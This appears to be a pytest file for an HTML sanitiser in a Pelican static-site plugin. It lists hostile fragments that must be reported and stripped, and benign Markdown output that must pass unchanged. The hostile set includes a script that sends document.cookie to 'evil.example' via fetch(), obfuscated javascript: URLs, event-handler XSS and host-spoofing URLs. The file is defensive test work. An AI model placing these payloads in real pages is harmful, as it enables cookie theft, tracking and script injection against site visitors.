"""The one sanitiser: every known way to run code or load from another host.

Each hostile fragment must be reported (a finding, for the author) *and*
be gone from the cleaned HTML (for the readers); benign Markdown output
passes unchanged and without a finding.
"""

import re

import lxml.html
import pytest
from pelican.plugins.fortsetzung.safety.sanitize import is_local, plain, sanitize

HOSTS = {"example.org", "localhost"}
EVIL = "evil.example"

HOSTILE = {
    "script": '<script src="https://evil.example/t.js"></script><p>Text</p>',
    "inline script": "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "noscript": '<noscript><img src="https://evil.example/p.gif"></noscript>',
    "iframe": '<iframe src="https://evil.example/embed"></iframe>',
    "frame": '<frameset><frame src="https://evil.example/"></frameset>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "img": '<p><img src="https://evil.example/p.gif" alt="Pixel"></p>',
    "img protocol-relative": '<img src="//evil.example/p.gif" alt="">',
    "img backslashes": '<img src="\\\\evil.example\\p.gif" alt="">',
    "img scheme without slashes": '<img src="https:evil.example/p.gif" alt="">',
    "img spaces and tabs": '<img src=" \thttps://evil.example/p.gif" alt="">',
    "img upper case": '<IMG SRC="HTTPS://EVIL.EXAMPLE/p.gif" alt="">',
    "srcset": '<img src="a.png" srcset="a.png 1x, https://evil.example/b.png 2x" alt="">',
    "picture source": (
        '<picture><source srcset="https://evil.example/b.webp">'
        '<img src="a.png" alt=""></picture>'
    ),
    "video poster": '<video src="v.mp4" poster="https://evil.example/p.jpg"></video>',
    "video src": '<video src="https://evil.example/v.mp4"></video>',
    "audio src": '<audio src="https://evil.example/a.mp3"></audio>',
    "track": '<video src="v.mp4"><track src="https://evil.example/t.vtt"></video>',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "link preload": '<link rel="preload" href="https://evil.example/f.woff2">',
    "style element": "<style>body{background:url(https://evil.example/x.png)}</style>",
    "style import": "<style>@import 'https://evil.example/x.css';</style>",
    "style attribute url": '<p style="background-image: url(https://evil.example/x)">a</p>',
    "style attribute import": "<p style=\"@import 'https://evil.example/x'\">a</p>",
    "td style url": '<table><tr><td style="background:url(//evil.example/x)">a</td></tr></table>',
    "svg image": '<svg><image href="https://evil.example/i.png"></image></svg>',
    "svg use": '<svg><use xlink:href="https://evil.example/s.svg#a"></use></svg>',
    "math": '<math><mi xlink:href="https://evil.example/">x</mi></math>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="q"></form>',
    "input image": '<input type="image" src="https://evil.example/b.png">',
    "button formaction": '<button formaction="https://evil.example/">Los</button>',
    "ping": '<a href="https://example.org/" ping="https://evil.example/track">Link</a>',
    "onclick": '<p onclick="alert(1)">Klick</p>',
    "onerror": '<img src="bild.png" alt="" onerror="alert(1)">',
    "onmouseover upper case": '<a href="/" ONMOUSEOVER="alert(1)">x</a>',
    "javascript href": '<a href="javascript:alert(1)">x</a>',
    "javascript obfuscated": '<a href=" JaVaScRiPt:alert(1)">x</a>',
    "javascript with tab": '<a href="java\tscript:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data html href": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    "template": '<template><img src="https://evil.example/p.gif"></template>',
    "unclosed comment": "<p>Text</p>\n<!-- privat: nur für mich\n<p>Mehr</p>",
    "unclosed escaped comment": "<p>Text</p>\n<p>&lt;!&ndash; privat</p><p>Mehr</p>",
}


def loads_or_runs(html):
    """What in cleaned HTML could run code or load from another host."""
    if not html.strip():
        return []
    root = lxml.html.fragment_fromstring(html, create_parent="div")
    found = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            found.append("comment")
            continue
        if element.tag in {
            "script", "iframe", "object", "embed", "link", "meta", "base", "style",
            "form", "svg", "frame", "template", "noscript", "math", "input",
        }:  # fmt: skip
            found.append(element.tag)
        for name, value in element.attrib.items():
            if name.startswith("on") or name in {"ping", "formaction"}:
                found.append(name)
            if EVIL in value.lower() or re.match(r"\s*(java|vb)script:", value, re.I):
                found.append(f"{name}={value}")
            if value.strip().startswith("data:") and name != "src":
                found.append(f"{name}={value}")
    return found


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_html_is_reported_and_removed(html):
    clean, findings = sanitize(html, HOSTS)

    assert loads_or_runs(clean) == []
    assert EVIL not in clean.lower()
    assert any(f.severity == "error" for f in findings), findings
    for finding in findings:
        assert finding.message and finding.fix


def test_an_unclosed_comment_hides_everything_after_it():
    clean, _ = sanitize(HOSTILE["unclosed comment"], HOSTS)
    escaped, _ = sanitize(HOSTILE["unclosed escaped comment"], HOSTS)

    assert "privat" not in clean
    assert "Mehr" not in clean
    assert "privat" not in escaped
    assert "Text" in clean
    assert "Text" in escaped


BENIGN = {
    "paragraphs": "<p>Ein <em>schöner</em> <strong>Tag</strong>.</p>",
    "local image": '<p><img alt="Bild" src="{static}/images/bild.png"></p>',
    "own site image": '<p><img alt="Bild" src="https://example.org/images/bild.png"></p>',
    "inline image": '<p><img alt="Punkt" src="data:image/png;base64,iVBORw0KGgo="></p>',
    "link to another site": '<p><a href="https://www.duesseldorf.de/">Stadt</a></p>',
    "mail link": '<p><a href="mailto:info@example.org">Mail</a></p>',
    "table with alignment": (
        '<table><thead><tr><th style="text-align:left">A</th></tr></thead>'
        '<tbody><tr><td style="text-align:right">1</td></tr></tbody></table>'
    ),
    "code with a comment": "<pre><code>&lt;!-- kein Kommentar --&gt;\n</code></pre>",
    "footnote": (
        '<p>Satz<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup></p>'
    ),
    "highlighted code": (
        '<div class="highlight"><pre><span></span><code>'
        '<span class="n">x</span> <span class="o">=</span> <span class="mi">1</span>\n'
        "</code></pre></div>"
    ),
    "details": "<details><summary>Mehr</summary><p>Text</p></details>",
    "local video": '<video controls="" src="{static}/images/film.mp4"></video>',
    "inline semantics from an import": (
        '<p>m<sup>2</sup> H<sub>2</sub>O <del datetime="2014-05-12">alt</del> <s>x</s> '
        '<abbr title="WordPress">WP</abbr> <cite>Buch</cite> <q>Zitat</q> '
        "<kbd>Strg</kbd> <samp>ok</samp> <var>n</var> <dfn>Wort</dfn></p>"
    ),
    "address": "<address>Stadtbücherei<br>Bertha-von-Suttner-Platz 1</address>",
}


@pytest.mark.parametrize("html", BENIGN.values(), ids=BENIGN.keys())
def test_what_markdown_writes_passes_unchanged(html):
    clean, findings = sanitize(html, HOSTS)

    assert findings == []
    assert clean == html


def test_a_closed_comment_is_removed_without_a_word():
    clean, findings = sanitize("<p>A</p>\n<!-- Notiz\n\nmehr -->\n<p>B</p>", HOSTS)

    assert findings == []
    assert "Notiz" not in clean
    assert "<p>B</p>" in clean


def test_unknown_elements_keep_their_text_with_a_warning():
    clean, findings = sanitize('<p><font color="red">rot</font></p>', HOSTS)

    assert clean == "<p>rot</p>"
    assert [f.severity for f in findings] == ["warning"]
    assert "<font>" in findings[0].message


@pytest.mark.parametrize(
    ("url", "local"),
    [
        ("bild.png", True),
        ("/images/bild.png", True),
        ("{static}/images/bild.png", True),
        ("https://example.org/bild.png", True),
        ("http://localhost:8000/bild.png", True),
        ("https://evil.example/bild.png", False),
        ("//evil.example/bild.png", False),
        ("\\\\evil.example/bild.png", False),
        ("/\\evil.example/bild.png", False),
        ("https:evil.example/bild.png", False),
        ("https://example.org.evil.example/", False),
        ("https://example.org@evil.example/", False),
        ("ftp://example.org/bild.png", False),
        (" https://evil.example/", False),
        ("ht\ttps://evil.example/", False),
    ],
)
def test_what_counts_as_this_site(url, local):
    assert is_local(url, HOSTS) is local


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('Neu <script src="https://evil.example/t.js"></script>', "Neu"),
        ("Titel <!-- privat -->", "Titel"),
        ("<b>fett</b>", "fett"),
        ("Tom & Jerry", "Tom & Jerry"),
        ("Ich <3 Bücher", "Ich <3 Bücher"),
    ],
)
def test_plain_text_of_a_field(text, expected):
    assert plain(text) == expected


def test_an_image_from_another_host_leaves_its_description():
    clean, _ = sanitize(
        '<p>Vorher <img src="https://evil.example/p.png" alt="Ein Foto"> nachher</p>'
        '<picture><source srcset="//evil.example/b.webp"><img src="a.png" alt=""></picture>',
        HOSTS,
    )

    assert clean == (
        '<p>Vorher [Ein Foto] nachher</p><picture><img src="a.png" alt=""></picture>'
    )
